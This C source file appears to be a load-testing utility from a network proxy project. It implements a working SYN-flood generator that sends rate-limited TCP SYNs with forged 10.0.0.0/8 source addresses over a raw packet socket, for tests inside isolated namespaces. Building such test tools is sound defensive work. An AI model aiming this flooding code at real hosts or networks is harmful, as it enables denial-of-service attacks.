/* Copyright 2026 The ovs-mqtt-proxy authors.
 * SPDX-License-Identifier: Apache-2.0 */

/* SYNs as an attacker sends them: from random addresses and ports of 10.0.0.0/8, at a rate, bounded
 * in number, with the options that a Linux client's have.  For tests in network namespaces of their
 * own; it answers nothing.  Not part of the product and linked to nothing of it.  One thread.
 *
 *     synflood INTERFACE MAC ADDRESS PORT RATE COUNT [SEED]
 *
 * MAC: of the next hop.  Prints how many were sent, and in what time. */

#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

enum {
    IP_AT = ETH_HLEN, TCP_AT = IP_AT + 20, TCP_SIZE = 40, FRAME = TCP_AT + TCP_SIZE,
    BATCH = 32,
};

/* MSS 1460, SACK permitted, timestamps, window scale 7. */
static const uint8_t options[20] = {
    2, 4, 0x05, 0xb4, 4, 2, 8, 10, 0, 0, 0, 1, 0, 0, 0, 0, 1, 3, 3, 7,
};

struct flood {
    uint8_t frame[FRAME];             /* All that is the same in each. */
    uint64_t random;
    int fd;
};

static void __attribute__((noreturn))
fail(const char *what)
{
    fprintf(stderr, "synflood: %s: %s\n", what, strerror(errno));
    exit(1);
}

static int64_t
now_ns(void)
{
    struct timespec ts;

    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (int64_t) ts.tv_sec * 1000000000 + ts.tv_nsec;
}

/* splitmix64 */
static uint64_t
draw(uint64_t *state)
{
    uint64_t z = *state += 0x9e3779b97f4a7c15;

    z = (z ^ z >> 30) * 0xbf58476d1ce4e5b9;
    z = (z ^ z >> 27) * 0x94d049bb133111eb;
    return z ^ z >> 31;
}

static void
put16(uint8_t *p, uint32_t value)
{
    p[0] = (uint8_t) (value >> 8);
    p[1] = (uint8_t) value;
}

static uint32_t
sum(uint32_t total, const uint8_t *p, size_t n)
{
    for (size_t i = 0; i < n; i += 2) {
        total += (uint32_t) p[i] << 8 | p[i + 1];
    }
    return total;
}

static uint32_t
fold(uint32_t total)
{
    total = (total & 0xffff) + (total >> 16);
    return ~((total & 0xffff) + (total >> 16)) & 0xffff;
}

static void
make_syn(struct flood *f, uint8_t *frame)
{
    uint8_t *ip = frame + IP_AT, *tcp = frame + TCP_AT;
    uint64_t who = draw(&f->random), seq = draw(&f->random);

    memcpy(frame, f->frame, FRAME);
    ip[12] = 10;
    put16(ip + 13, (uint32_t) who);
    ip[15] = (uint8_t) (1 + (who >> 16) % 254);
    put16(tcp, 1024 + (uint32_t) (who >> 32) % 64000);
    memcpy(tcp + 4, &seq, 4);
    put16(ip + 10, 0);
    put16(ip + 10, fold(sum(0, ip, 20)));
    put16(tcp + 16, 0);
    put16(tcp + 16, fold(sum(sum(IPPROTO_TCP + TCP_SIZE, ip + 12, 8), tcp, TCP_SIZE)));
}

static void
open_socket(struct flood *f, const char *interface)
{
    struct sockaddr_ll to = {
        .sll_family = AF_PACKET, .sll_ifindex = (int) if_nametoindex(interface),
    };
    int size = 4 << 20;

    f->fd = socket(AF_PACKET, SOCK_RAW, 0);
    if (f->fd < 0 || !to.sll_ifindex || bind(f->fd, (struct sockaddr *) &to, sizeof to)) {
        fail(interface);
    }
    setsockopt(f->fd, SOL_SOCKET, SO_SNDBUF, &size, sizeof size);
}

static void
set_headers(struct flood *f, const char *mac, const char *address, const char *port)
{
    uint8_t *ip = f->frame + IP_AT, *tcp = f->frame + TCP_AT;
    unsigned int m[6];

    errno = EINVAL;
    if (sscanf(mac, "%x:%x:%x:%x:%x:%x", &m[0], &m[1], &m[2], &m[3], &m[4], &m[5]) != 6) {
        fail(mac);
    }
    for (int i = 0; i < 6; i++) {
        f->frame[i] = (uint8_t) m[i];
    }
    memcpy(f->frame + 6, "\x02\0\0\0\xbb\xbb\x08\0", 8);
    ip[0] = 0x45;
    put16(ip + 2, 20 + TCP_SIZE);
    ip[6] = 0x40;
    ip[8] = 64;
    ip[9] = IPPROTO_TCP;
    if (inet_pton(AF_INET, address, ip + 16) != 1) {
        fail(address);
    }
    put16(tcp + 2, (uint32_t) atoi(port));
    tcp[12] = TCP_SIZE / 4 << 4;
    tcp[13] = 2;
    put16(tcp + 14, 64240);
    memcpy(tcp + 20, options, sizeof options);
}

/* Returns how many of the 'n' were taken. */
static unsigned int
send_batch(struct flood *f, unsigned int n)
{
    static uint8_t frames[BATCH][FRAME];
    struct mmsghdr messages[BATCH];
    struct iovec iovs[BATCH];
    int done;

    memset(messages, 0, sizeof messages);
    for (unsigned int i = 0; i < n; i++) {
        make_syn(f, frames[i]);
        iovs[i] = (struct iovec) { frames[i], FRAME };
        messages[i].msg_hdr.msg_iov = &iovs[i];
        messages[i].msg_hdr.msg_iovlen = 1;
    }
    done = sendmmsg(f->fd, messages, n, 0);
    if (done < 0 && errno != ENOBUFS && errno != EAGAIN) {
        fail("sendmmsg");
    }
    return done < 0 ? 0 : (unsigned int) done;
}

int
main(int argc, char *argv[])
{
    struct flood f = { .fd = -1 };
    uint64_t rate, count, sent = 0;
    int64_t start;

    if (argc < 7 || argc > 8) {
        fputs("usage: synflood INTERFACE MAC ADDRESS PORT RATE COUNT [SEED]\n", stderr);
        return 2;
    }
    rate = strtoull(argv[5], NULL, 10);
    count = strtoull(argv[6], NULL, 10);
    f.random = argc > 7 ? strtoull(argv[7], NULL, 10) : 1;
    errno = EINVAL;
    if (!rate || rate > 10000000 || count > 100 * rate) {
        fail("rate, or more than 100 s of it");
    }
    set_headers(&f, argv[2], argv[3], argv[4]);
    open_socket(&f, argv[1]);

    start = now_ns();
    while (sent < count) {
        uint64_t due = (uint64_t) ((double) (now_ns() - start) * 1e-9 * (double) rate) + 1;
        uint64_t n = (due < count ? due : count) - (sent < due ? sent : due);

        if (sent >= due || (n < BATCH && sent + n < count)) {
            struct timespec pause = { 0, 100000 };

            nanosleep(&pause, NULL);
            continue;
        }
        sent += send_batch(&f, n < BATCH ? (unsigned int) n : BATCH);
    }
    printf("sent %llu in %.3f s\n", (unsigned long long) sent, (double) (now_ns() - start) * 1e-9);
    close(f.fd);
    return 0;
}
